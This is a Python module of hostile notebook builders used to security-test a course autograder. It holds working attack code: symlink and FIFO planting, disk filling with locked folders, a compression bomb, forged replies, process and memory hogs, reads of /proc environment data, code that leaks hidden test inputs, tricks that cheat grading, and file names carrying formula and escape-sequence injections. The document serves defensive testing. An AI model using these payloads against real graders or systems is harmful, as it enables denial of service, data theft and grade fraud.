"""The attacks of issue 19 (grader security, round two), each as a function building a notebook.

Every builder gets the chapter's solution notebook (``source``), its student release
(``release``), the chapter's markup (``chapter``), another chapter's notebook (``other``) and a
``context`` dict from the test (``watched``: a folder of the grader's machine whose files must
not change; ``hold_seconds``: how long the process hog keeps its processes) and returns a new
notebook. Each attack works against the grader of issue 13 (``torch.save`` request and reply
files in a folder the kernel could write, nbclient) and against today's (pipes, bounded data
format, workers): it patches whichever entry point the kernel side has (``answer`` then,
``serve`` now). Markers printed by an attack, read by tests/test_grader_hostile.py:

* ``DISK-WROTE-MB n``: how much it could write; ``MEMORY-HELD-GIB n``: how much memory its
  processes held at once; ``HOG processes: n``: processes it started;
* ``LEAK-...``: something it should not see (the tests' inputs or code, grader paths).

``CLASSES`` names the issue's attack class of each attack (``host-files``, ``replies``,
``time``, ``names``, ``points``, ``leaks``).
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from typing import Callable, Dict

from .attacks import NOT_IMPLEMENTED_LINE, _answer_indexes, _text


def _code(text: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": text}


def _with_added_cell(release, code: str) -> dict:
    """The release with an added code cell right after the setup cell (before every exercise)."""
    nb = copy.deepcopy(release)
    first = next(i for i, cell in enumerate(nb["cells"]) if cell["cell_type"] == "code")
    nb["cells"].insert(first + 1, _code(code))
    return nb


def _with_answers(release, chapter, bodies: Dict[str, str]) -> dict:
    """The release with the ``raise NotImplementedError`` line of some answers replaced by code."""
    nb = copy.deepcopy(release)
    for index in _answer_indexes(nb, chapter):
        cell = nb["cells"][index]
        label = ((cell.get("metadata") or {}).get("attention_book") or {}).get("exercise")
        if label not in bodies:
            continue
        lines = []
        for line in _text(cell).split("\n"):
            if NOT_IMPLEMENTED_LINE in line:
                indent = line[: len(line) - len(line.lstrip())]
                line = "\n".join(indent + part for part in bodies[label].split("\n"))
            lines.append(line)
        cell["source"] = "\n".join(lines)
    return nb


# ------------------------------------------------------------------------------------------------
# Host files: links and FIFOs where the grader of issue 13 wrote its requests
# ------------------------------------------------------------------------------------------------

PLANT = r'''
import glob, os
_targets = {targets}
_folders = set(glob.glob("/tmp/ab-grade-*/exchange")) | {{os.path.join(os.getcwd(), "..", "exchange"),
                                                          os.path.join(os.getcwd(), "..", "kernel")}}
_planted = 0
for _folder in _folders:
    if not os.path.isdir(_folder):
        continue
    for _n in range(1, 400):
        for _name in (f"call-{{_n}}.pt", f"reply-{{_n}}.pt"):
            _path = os.path.join(_folder, _name)
            try:
                if {fifo} and _n == 1:
                    os.mkfifo(_path)  # the first request's path: a writer blocks until someone reads
                else:
                    os.symlink(_targets[_n % len(_targets)], _path)
                _planted += 1
            except OSError:
                pass
print("planted", _planted)
'''


def _plant(source, release, chapter, other, context=None, fifo=False):
    watched = (context or {}).get("watched", "/nonexistent")
    targets = [f"{watched}/secret-0600", f"{watched}/hidden_tests_ch99.py", f"{watched}/created-by-grader"]
    return _with_added_cell(release, PLANT.format(targets=repr(targets), fifo=fifo))


DISK = r'''
import os
_total = 0
_chunk = b"\0" * (64 << 20)
os.makedirs("deep/sub", exist_ok=True)
try:
    for _i in range(48):  # 3 GiB, as 64 MiB files (each under the per-file limit)
        with open(f"deep/sub/f{_i}", "wb") as _f:
            _f.write(_chunk)
        _total += 64
except OSError as _e:
    print("DISK-STOPPED", type(_e).__name__)
print("DISK-WROTE-MB", _total)
os.chmod("deep/sub", 0)  # a grader that is not root cannot delete what is under a 000 folder
os.chmod("deep", 0)
'''

# ------------------------------------------------------------------------------------------------
# Forged replies: the kernel side replaced (issue 13's answer(), today's serve())
# ------------------------------------------------------------------------------------------------

FORGE = r'''
import struct, threading, time
import torch
import attention_book.instructor.kernel_side as _ks
_calls = [0]

def _old_reply(kind):
    """What the grader of issue 13 would read with torch.load."""
    if kind == "shared":  # 100**6 list items behind a few kilobytes, nested 6 deep (within depth 8)
        value = [0] * 100
        for _ in range(5):
            value = [value] * 100
        return {{"ok": True, "value": value}}
    if kind == "expand":  # 4 bytes of storage posing as 2 GB
        return {{"ok": True, "value": torch.zeros(1).expand(int(5e8))}}
    return {{"ok": True, "value": [1.0] * 10}}

def _deflate_bomb(path, numel=805306368):
    """A zip in torch.save's layout whose storage (3 GiB of zeros) is deflated to ~3 MB."""
    import collections, io, pickle, zipfile
    marker = object()
    class _T:
        def __reduce__(self):
            return (torch._utils._rebuild_tensor_v2, (marker, 0, (numel,), (1,), False, collections.OrderedDict()))
    class _P(pickle.Pickler):
        def persistent_id(self, obj):
            return ("storage", torch.FloatStorage, "0", "cpu", numel) if obj is marker else None
    buffer = io.BytesIO()
    _P(buffer, protocol=2).dump({{"ok": True, "value": _T()}})
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", buffer.getvalue())
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
        with archive.open("archive/data/0", "w", force_zip64=True) as out:
            chunk = bytes(1 << 24)
            for _ in range(numel * 4 // len(chunk)):
                out.write(chunk)

def answer(ns, request_path, reply_path):  # issue 13's entry point
    _calls[0] += 1
    if "{kind}" == "deflate":
        _deflate_bomb(reply_path)
        return
    reply = _old_reply("{kind}")
    try:  # the shape its caller unpacks: (value, args after, kwargs after) for a call of ns["f"]
        request = torch.load(request_path, weights_only=True)
        if "in globals()" in request.get("code", ""):  # has(name): yes, so the tests go on
            reply["value"] = True
        elif "__r = " in request.get("code", ""):
            inputs = request.get("inputs", {{}})
            reply["value"] = (reply["value"], inputs.get("__args", ()), inputs.get("__kwargs", {{}}))
    except Exception:
        pass
    torch.save(reply, reply_path)

def _frames():
    """What today's grader reads: bytes of its own format, each breaking one bound."""
    big = 1 << 62
    return [
        b"L" + struct.pack("<I", 0xFFFFFFFF) + b"N" * 64,  # a list that claims 4 billion items
        b"L\x01\x00\x00\x00" * 100000 + b"N",  # nested 100,000 deep
        b"X" + bytes([0, 1]) + struct.pack("<Q", int(5e8)) + b"\0" * 4,  # 5e8 floats in 4 bytes
        b"X" + bytes([0, 2]) + struct.pack("<QQ", big, big) + b"\0" * 8,  # sizes that overflow
        b"M" + struct.pack("<I", 3) + b"S\x01\x00\x00\x00a" + b"N" * 2,  # a dict cut short
        b"U" + struct.pack("<I", 150000) + b"N" * 150000,  # more items than allowed
        b"\x00" * (70 << 20),  # larger than the reply limit
    ]

def serve():  # today's entry point: reads the request, answers with a forged frame
    fds = _ks._fds()
    header = _ks.wire.read_exactly(fds[0], 20, time.monotonic() + 30)
    magic, nonce, length = struct.unpack("<4sQQ", header)
    _ks.wire.read_exactly(fds[0], length, time.monotonic() + 30)
    frames = _frames()
    payload = frames[_calls[0] % len(frames)]
    _calls[0] += 1
    threading.Thread(target=lambda: _ks.wire.write_frame(fds[1], nonce, payload), daemon=True).start()

_ks.answer = answer
_ks.serve = serve
print("kernel side replaced")
'''

FLOOD = r'''
import sys
_line = "x" * 4_000_000
for _i in range(2500):  # 10 GB of output, 4 MB per message
    print(_line, flush=True)
'''

STRANGERS = r'''
import threading, time, uuid
import attention_book.instructor.kernel_side as _ks
_kernel = get_ipython().kernel
_ident = _kernel._parent_ident["shell"]  # the grader's shell socket

def _spam():  # replies to requests nobody sent, every half second, forever
    while True:
        try:
            parent = {{"header": {{"msg_id": uuid.uuid4().hex, "msg_type": "execute_request", "username": "x",
                                  "session": "x", "date": "", "version": "5.3"}}}}
            _kernel.session.send(_kernel.shell_stream, "execute_reply", {{"status": "ok", "execution_count": 1}},
                                 parent=parent, ident=_ident)
        except Exception:
            pass
        time.sleep(0.5)

def _never(*args, **kwargs):  # the grader's call never gets its reply
    while True:
        try:
            time.sleep(3600)
        except BaseException:
            pass

threading.Thread(target=_spam, daemon=True).start()
_ks.answer = _never
_ks.serve = _never
print("strangers started")
'''

# ------------------------------------------------------------------------------------------------
# Time and starvation
# ------------------------------------------------------------------------------------------------

HOG = r'''
import subprocess, time
_kids = []
for _i in range(1000):
    try:
        _kids.append(subprocess.Popen(["/bin/sleep", "600"]))
    except OSError:
        break
print("HOG processes:", len(_kids))
time.sleep({hold})  # keeps every slot while the other notebooks are graded
'''

MEMORY = r'''
import os, select, time
_r, _w = os.pipe()
_pids = []
for _i in range(4):  # four processes, 1 GiB each (each under the per-process limit)
    _pid = os.fork()
    if _pid == 0:
        try:
            _block = bytearray(1 << 30)
            for _j in range(0, len(_block), 4096):
                _block[_j] = 1
            os.write(_w, bytes([_i]))
            time.sleep(20)
        finally:
            os._exit(0)
    _pids.append(_pid)
_done, _end = set(), time.time() + 20  # what the cgroup lets through arrives in seconds
while len(_done) < 4 and time.time() < _end:
    if select.select([_r], [], [], 1)[0]:
        _done.update(os.read(_r, 16))
time.sleep(2)  # the cgroup's OOM killer acts on a process that filled it after it reported
_alive = [_i for _i in _done if os.waitpid(_pids[_i], os.WNOHANG) == (0, 0)]
print("MEMORY-HELD-GIB", len(_alive))
'''


def _huge_plan(source, release, chapter, other, context=None):
    """About 1.9 MB of code: every code cell edited (so no cell of the release is found unchanged
    and the whole notebook is one edited stretch) and 18 added cells of 100 KB of code-like text.
    The grader of issue 13 paired each course cell with each added cell character by character
    (about a second per pair, a thousand pairs)."""
    import random

    generator = random.Random(19)
    nb = copy.deepcopy(release)

    def filler(lines: int) -> str:
        return "\n".join("# " + "".join(generator.choice("etaoinshrdlu ()=_.,") for _ in range(70))
                         for _ in range(lines))

    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["source"] = _text(cell) + "\n# edited\n"
    for _ in range(18):
        nb["cells"].append(_code(filler(1400)))
    return nb


# ------------------------------------------------------------------------------------------------
# Points without solving, leaks
# ------------------------------------------------------------------------------------------------

CAPTURE = r'''
_captured = []
def _record(function):
    def wrapper(*args, **kwargs):
        _captured.append((args, kwargs))
        return function(*args, **kwargs)
    return wrapper
'''

LEAK_LATER = r'''
for _args, _kwargs in _captured[:6]:
    print("LEAK-INPUT", repr(_args)[:300])
'''

LEAK_CODE = r'''
import attention_book.instructor.kernel_side as _ks
_seen = []
if hasattr(_ks, "evaluate"):  # issue 13: the request carried code
    _old = _ks.evaluate
    def evaluate(ns, code, inputs):
        _seen.append(code)
        reply = _old(ns, code, inputs)
        if reply.get("ok"):
            reply = {"ok": False, "ename": "ValueError", "evalue": "LEAK-CODE " + code[:200]}
        return reply
    _ks.evaluate = evaluate
if hasattr(_ks, "handle"):  # today: a request of a fixed vocabulary
    _old_handle = _ks.handle
    def handle(ns, request):
        _seen.append(request)
        reply = _old_handle(ns, request)
        if reply.get("ok"):  # its inputs sent back through the error message
            reply = {"ok": False, "ename": "ValueError", "evalue": "LEAK-INPUT " + repr(request)[:200]}
        return reply
    _ks.handle = handle
'''

PATHS = r'''
import os, sys
for _name in ("/proc/self/mountinfo", "/proc/1/cmdline", "/proc/self/cmdline", "/proc/1/environ"):
    try:
        print("PATHS", _name, open(_name, "rb").read().replace(b"\0", b" ").decode("utf-8", "replace"))
    except OSError as _e:
        print("PATHS", _name, _e)
print("PATHS cwd", os.getcwd(), os.environ)
try:
    open("/nonexistent-file-for-an-error")
except OSError as _e:
    print("PATHS error", _e)
'''


def _cheat_softmax(source, release, chapter, other, context=None):
    return _with_answers(release, chapter, {"ex-03-stable-softmax": "return torch.softmax(scores, dim=dim)"})


def _cheat_finished(source, release, chapter, other, context=None):
    return _with_answers(release, chapter, {
        "ex-03-stable-softmax": "return stable_softmax(scores, dim=dim)",
        "ex-03-scaled-weights": "return scaled_attention_weights(queries, keys)",
        "ex-03-temperature": ("if temperature <= 0:\n    raise ValueError('temperature must be > 0')\n"
                              "return stable_softmax(scores / temperature, dim=-1)"),
    })


def _cheat_zero_inputs(source, release, chapter, other, context=None):
    """Zero the inputs in place, then return what is right for zeros: a grader that computes its
    expected value from tensors the kernel changed agrees."""
    return _with_answers(release, chapter, {
        "ex-03-stable-softmax": "scores.zero_()\nreturn scores.exp() / scores.exp().sum(dim=dim, keepdim=True)",
        "ex-03-scaled-weights": ("queries.zero_()\nkeys.zero_()\n"
                                 "return torch.full((queries.shape[0], keys.shape[0]), 1.0 / keys.shape[0])"),
        "ex-03-temperature": ("if temperature <= 0:\n    raise ValueError('temperature must be > 0')\n"
                              "scores.zero_()\nreturn torch.full_like(scores, 1.0 / scores.shape[-1])"),
    })


def _leak_inputs(source, release, chapter, other, context=None):
    """The solved notebook, whose answers keep the inputs the grader sends and print them later."""
    nb = copy.deepcopy(source)
    first = next(i for i, cell in enumerate(nb["cells"]) if cell["cell_type"] == "code")
    nb["cells"].insert(first + 1, _code(CAPTURE))
    answers = {i + 1 for i in _answer_indexes(source, chapter)}  # shifted by the inserted cell
    for index in sorted(answers):
        cell = nb["cells"][index]
        names = [line.split("(")[0][4:] for line in _text(cell).split("\n") if line.startswith("def ")]
        cell["source"] = _text(cell) + "\n" + "\n".join(f"{n} = _record({n})" for n in names) + "\n"
    nb["cells"].append(_code(LEAK_LATER))
    return nb


def _leak_code(source, release, chapter, other, context=None):
    nb = copy.deepcopy(source)
    first = next(i for i, cell in enumerate(nb["cells"]) if cell["cell_type"] == "code")
    nb["cells"].insert(first + 1, _code(LEAK_CODE))
    return nb


@dataclass
class Attack:
    name: str
    kind: str  # the class: host-files, replies, time, points, leaks
    what: str
    build: Callable[..., dict]


ROUND2: Dict[str, Attack] = {
    attack.name: attack
    for attack in [
        Attack("plant-links", "host-files", "links to the grader's files where issue 13 wrote requests",
               lambda source, release, chapter, other, context=None: _plant(source, release, chapter, other,
                                                                          context)),
        Attack("plant-fifo", "host-files", "a FIFO at the first request's path (issue 13's grader blocked)",
               lambda source, release, chapter, other, context=None: _plant(source, release, chapter, other,
                                                                          context, fifo=True)),
        Attack("fill-disk", "host-files", "writes 3 GB, then chmod 000 its folders",
               lambda source, release, chapter, other, context=None: _with_added_cell(release, DISK)),
        Attack("reply-shared", "replies", "replies sharing references (100**6 items) / a list count bomb",
               lambda source, release, chapter, other, context=None: _with_added_cell(
                   release, FORGE.format(kind="shared"))),
        Attack("reply-expand", "replies", "a stride-0 tensor (4 bytes posing as 2 GB) / a lying tensor header",
               lambda source, release, chapter, other, context=None: _with_added_cell(
                   release, FORGE.format(kind="expand"))),
        Attack("reply-deflate", "replies", "a deflated 3 GiB storage in 3 MB / a reply over the size limit",
               lambda source, release, chapter, other, context=None: _with_added_cell(
                   release, FORGE.format(kind="deflate"))),
        Attack("iopub-flood", "replies", "10 GB of output in 4 MB messages",
               lambda source, release, chapter, other, context=None: _with_added_cell(release, FLOOD)),
        Attack("strangers", "time", "replies with strangers' message ids every 0.5 s; calls never answered",
               lambda source, release, chapter, other, context=None: _with_added_cell(
                   release, STRANGERS.format())),
        Attack("huge-plan", "time", "1.9 MB: every cell edited, 18 added cells of 100 KB (a diff of hours)",
               _huge_plan),
        Attack("process-hog", "time", "takes every process slot it can while others are graded",
               lambda source, release, chapter, other, context=None: _with_added_cell(
                   release, HOG.format(hold=(context or {}).get("hold_seconds", 60)))),
        Attack("memory-hog", "time", "four processes of 1 GiB each",
               lambda source, release, chapter, other, context=None: _with_added_cell(release, MEMORY)),
        Attack("cheat-softmax", "points", "my_softmax is torch.softmax", _cheat_softmax),
        Attack("cheat-finished", "points", "answers call the chapter's stable_softmax and scaled_attention_weights",
               _cheat_finished),
        Attack("cheat-zero-inputs", "points", "answers zero their inputs in place", _cheat_zero_inputs),
        Attack("leak-inputs", "leaks", "keeps the grader's inputs and prints them later", _leak_inputs),
        Attack("leak-code", "leaks", "sends back what each request holds, in its error messages", _leak_code),
        Attack("leak-paths", "leaks", "prints mount info, command lines, environment, an error",
               lambda source, release, chapter, other, context=None: _with_added_cell(release, PATHS)),
    ]
}

#: file names of class "names": a CR forging rows (one a formula), bytes that are not UTF-8,
#: terminal escape sequences (bytes: some are not valid str on every file system)
NAMES = [
    b"mallory\r=HYPERLINK(\"x\")\ralice.ipynb",
    b"\xff\xfe-latin1-\xe9.ipynb",
    b"\x1b[2J\x1b[31mred\x1b[0m.ipynb",
]


def as_json(nb) -> str:
    return json.dumps(nb)
